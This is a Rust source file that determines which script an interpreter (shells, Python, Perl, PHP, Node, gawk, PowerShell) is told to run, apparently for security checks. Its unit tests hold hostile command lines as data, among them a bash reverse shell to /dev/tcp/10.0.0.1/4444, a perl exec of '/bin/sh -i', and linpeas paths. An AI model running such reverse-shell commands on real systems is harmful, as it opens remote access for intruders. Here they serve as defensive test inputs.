//! Which script an interpreter was told to run.
//!
//! Each reads its options in a way of its own. A program's text on the command line (`sh -c`) is no script, and it may
//! be anywhere in a cluster of letters; a script that stands behind an option with a value must not be missed. Who writes
//! the command line chooses both, to be taken for something else.

/// How interpreters of one family read their options. Letters are those after one dash; words are whole arguments, up to a
/// `=`, of any case.
#[derive(Debug)]
pub struct Family {
    /// Beginnings of names, after which only a version may follow.
    names: &'static [&'static str],
    /// Letters for a program's text, or for reading it from standard input: there is no script.
    text: &'static str,
    /// Letters with a value: what is left of the argument, or else the next one.
    value: &'static str,
    /// Letters with a value in the same argument alone.
    attached: &'static str,
    /// Letters whose value is the script.
    script: &'static str,
    /// Words for a program's text.
    text_words: &'static [&'static str],
    /// Words with a value.
    value_words: &'static [&'static str],
    /// Words whose value is the script.
    script_words: &'static [&'static str],
    /// Words of one dash that are no clusters, and have no value.
    plain_words: &'static [&'static str],
    /// The first argument that is no option.
    first: First,
    /// The habits of shells: `+x`; a letter with a value takes the next argument, and the cluster goes on; a `-` ends the
    /// options.
    shell: bool,
}

/// What the first argument that is no option is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum First {
    Script,
    Text,
}

const NOTHING: Family = Family {
    names: &[],
    text: "",
    value: "",
    attached: "",
    script: "",
    text_words: &[],
    value_words: &[],
    script_words: &[],
    plain_words: &[],
    first: First::Script,
    shell: false,
};

/// From the manual pages, and from what the programs do where these say nothing.
static FAMILIES: &[Family] = &[
    Family {
        names: &["sh", "bash", "dash", "ash", "ksh", "mksh", "zsh"],
        text: "cs",
        value: "oO",
        value_words: &["--rcfile", "--init-file", "-rcfile", "-init-file"],
        // bash takes its long options with one dash too.
        plain_words: &[
            "-debugger",
            "-dump-po-strings",
            "-dump-strings",
            "-login",
            "-noediting",
            "-noprofile",
            "-norc",
            "-posix",
            "-protected",
            "-restricted",
            "-verbose",
            "-wordexp",
        ],
        shell: true,
        ..NOTHING
    },
    Family { names: &["csh", "tcsh"], text: "cs", ..NOTHING },
    Family {
        names: &["fish"],
        text: "c",
        value: "CdDfop",
        text_words: &["--command"],
        value_words: &[
            "--init-command",
            "--debug",
            "--debug-output",
            "--features",
            "--profile",
            "--profile-startup",
        ],
        ..NOTHING
    },
    Family {
        names: &["python", "pypy"],
        text: "cm",
        value: "WXQ",
        value_words: &["--check-hash-based-pycs", "--jit"],
        ..NOTHING
    },
    Family { names: &["perl"], text: "eE", value: "I", attached: "MmxDFi", ..NOTHING },
    Family {
        names: &["ruby"],
        text: "e",
        value: "rIEC",
        attached: "FKTWxi",
        value_words: &["--encoding", "--external-encoding", "--internal-encoding"],
        ..NOTHING
    },
    Family {
        names: &["php"],
        text: "rBRE",
        value: "dczSt",
        script: "fF",
        text_words: &["--run", "--process-begin", "--process-code", "--process-end"],
        value_words: &["--define", "--php-ini", "--zend-extension", "--server", "--docroot"],
        script_words: &["--file", "--process-file"],
        ..NOTHING
    },
    Family {
        names: &["node", "nodejs"],
        text: "ep",
        value: "rC",
        text_words: &["--eval", "--print"],
        value_words: &[
            "--require",
            "--import",
            "--loader",
            "--experimental-loader",
            "--conditions",
            "--input-type",
            "--title",
        ],
        ..NOTHING
    },
    Family { names: &["lua", "luajit"], value: "elj", attached: "Ob", ..NOTHING },
    Family { names: &["tclsh", "wish"], value_words: &["-encoding"], ..NOTHING },
    Family { names: &["expect"], value: "c", attached: "D", script: "fb", ..NOTHING },
    Family {
        names: &["gawk"],
        text: "e",
        value: "vFli",
        attached: "LDdop",
        script: "fE",
        text_words: &["--source"],
        value_words: &["--assign", "--field-separator", "--load", "--include"],
        script_words: &["--file", "--exec"],
        first: First::Text,
        ..NOTHING
    },
    Family {
        names: &["pwsh"],
        text_words: &["-c", "-command", "-cwa", "-commandwithargs", "-e", "-ec", "-enc", "-encodedcommand"],
        value_words: &[
            "-ep",
            "-ex",
            "-executionpolicy",
            "-w",
            "-windowstyle",
            "-wd",
            "-workingdirectory",
            "-if",
            "-inputformat",
            "-o",
            "-of",
            "-outputformat",
            "-v",
            "-version",
            "-config",
            "-configurationname",
            "-configurationfile",
            "-custompipename",
            "-settings",
            "-settingsfile",
        ],
        script_words: &["-f", "-file"],
        ..NOTHING
    },
];

/// The family of an interpreter; `None` if a program of that name is none.
pub fn family(name: &[u8]) -> Option<&'static Family> {
    let version = |tail: &[u8]| tail.iter().all(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b'-'));
    let is_it = |own: &&str| name.strip_prefix(own.as_bytes()).is_some_and(version);
    FAMILIES.iter().find(|family| family.names.iter().any(is_it))
}

impl Family {
    /// The script, from the arguments after argv\[0\]; `None` if there is none.
    pub fn script<'a>(&self, mut arguments: impl Iterator<Item = &'a [u8]>) -> Option<&'a [u8]> {
        loop {
            let argument = arguments.next()?;
            let mut parts = argument.splitn(2, |&byte| byte == b'=');
            let (word, value) = (parts.next()?, parts.next());
            let among = |words: &[&str]| words.iter().any(|own| own.as_bytes().eq_ignore_ascii_case(word));
            if among(self.text_words) {
                return None;
            }
            if among(self.script_words) {
                return value.or_else(|| arguments.next());
            }
            if among(self.value_words) {
                if value.is_none() {
                    arguments.next()?;
                }
                continue;
            }
            match argument {
                b"--" if self.first == First::Text => return None,
                b"--" => return arguments.next(),
                b"-" if self.shell => return arguments.next(),
                b"-" => return None,
                [b'-', b'-', ..] => {}
                [b'-', ..] if among(self.plain_words) => {}
                [b'+', letters @ ..] if self.shell => {
                    let values = letters.iter().filter(|&&letter| has(self.value, letter)).count();
                    for _ in 0..values {
                        arguments.next()?;
                    }
                }
                [b'-', letters @ ..] => match self.cluster(letters, &mut arguments) {
                    Cluster::Options => {}
                    Cluster::NoScript => return None,
                    Cluster::Script(script) => return Some(script),
                },
                _ if self.first == First::Text => return None,
                _ => return Some(argument),
            }
        }
    }

    fn cluster<'a>(&self, letters: &'a [u8], arguments: &mut impl Iterator<Item = &'a [u8]>) -> Cluster<'a> {
        let mut rest = letters;
        while let [letter, tail @ ..] = rest {
            rest = tail;
            let mut value = || if tail.is_empty() { arguments.next() } else { Some(tail) };
            if has(self.text, *letter) {
                return Cluster::NoScript;
            } else if has(self.script, *letter) {
                return value().map_or(Cluster::NoScript, Cluster::Script);
            } else if has(self.attached, *letter) {
                return Cluster::Options;
            } else if has(self.value, *letter) {
                let found = if self.shell { arguments.next() } else { value() };
                if found.is_none() {
                    return Cluster::NoScript;
                }
                if !self.shell {
                    return Cluster::Options;
                }
            }
        }
        Cluster::Options
    }
}

/// What a cluster of letters says.
enum Cluster<'a> {
    Options,
    NoScript,
    Script(&'a [u8]),
}

fn has(letters: &str, letter: u8) -> bool {
    letters.as_bytes().contains(&letter)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn script<'a>(line: &'a [&str]) -> Option<&'a str> {
        let (name, arguments) = line.split_first().unwrap();
        let found = family(name.as_bytes())?.script(arguments.iter().map(|argument| argument.as_bytes()));
        found.map(|script| std::str::from_utf8(script).unwrap())
    }

    #[test]
    fn text_on_the_command_line_is_none() {
        for line in [
            &["bash", "-c", "x #/who"][..],
            &["bash", "-ic", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 #/who"],
            &["sh", "-ec", "command -v nc"],
            &["bash", "-lc", "exec /usr/bin/linpeas"],
            &["bash", "-euo", "pipefail", "-c", "x/nc"],
            &["bash", "-oc", "pipefail", "x/nc"],
            &["sh", "-s", "/tmp/nc"],
            &["sh"],
            &["sh", "-o"],
            &["python3", "-Ic", "import socket#/ss"],
            &["python3.11", "-m", "http.server"],
            &["python3", "-", "/tmp/nc"],
            &["perl", "-we", "exec('/bin/sh -i');#/lp"],
            &["perl", "-0777ne", "print#/lp"],
            &["perl", "-de", "1/nc"],
            &["perl", "-CSe", "1/nc"],
            &["ruby", "-rsocket", "-e", "x/nc"],
            &["php", "-n", "-r", "x/nc"],
            &["node", "-pe", "x/nc"],
            &["node", "--eval=x/nc"],
            &["gawk", "BEGIN {} #/nc", "/tmp/nc"],
            &["gawk", "--", "BEGIN {} #/nc"],
            &["gawk", "-i", "inplace", "{} #/nc", "/tmp/nc"],
            &["pwsh", "-NoProfile", "-EncodedCommand", "x/nc"],
            &["cat", "/tmp/nc"],
        ] {
            assert_eq!(script(line), None, "{line:?}");
        }
    }

    #[test]
    fn a_script_behind_options() {
        for (expected, line) in [
            ("x", &["sh", "x"][..]),
            ("/tmp/linpeas.sh", &["sh", "-e", "/tmp/linpeas.sh"]),
            ("x", &["bash", "-m", "x"]),
            ("x", &["bash", "+x", "x"]),
            ("x", &["bash", "+o", "posix", "x"]),
            ("x", &["bash", "-euo", "pipefail", "x"]),
            ("x", &["bash", "-oe", "pipefail", "x"]),
            ("x", &["bash", "--rcfile", "y", "-norc", "x"]),
            ("x", &["bash", "-", "x"]),
            ("-x", &["bash", "--", "-x"]),
            ("x", &["python3", "-W", "ignore", "-Bu", "x"]),
            ("x", &["python3", "-Wignore", "x"]),
            ("x", &["perl", "-I", "/lib", "-MSocket", "-w", "x"]),
            ("x", &["perl", "-i.be", "x"]),
            ("x", &["ruby", "-r", "socket", "x"]),
            ("x", &["php", "-c", "ini", "x"]),
            ("x", &["php", "-qf", "x"]),
            ("x", &["node", "-r", "m", "x"]),
            ("x", &["node", "--import=m", "--title", "t", "x"]),
            ("x", &["lua5.4", "-e", "a=1", "x"]),
            ("x", &["fish", "-C", "true", "x"]),
            ("x", &["gawk", "-F:", "-f", "x"]),
            ("x", &["gawk", "-p", "-f", "x"]),
            ("x", &["expect", "-f", "x"]),
            ("x", &["pwsh", "-ExecutionPolicy", "Bypass", "-File", "x"]),
        ] {
            assert_eq!(script(line), Some(expected), "{line:?}");
        }
    }

    proptest! {
        #[test]
        fn any_arguments_end(at in 0..FAMILIES.len(), arguments in proptest::collection::vec("[-+=a-zA-Z0-9]{0,6}", 0..6)) {
            let found = FAMILIES[at].script(arguments.iter().map(String::as_bytes));
            prop_assert!(found.is_none_or(|found| arguments.iter().any(|argument| argument.as_bytes().ends_with(found))));
        }
    }
}
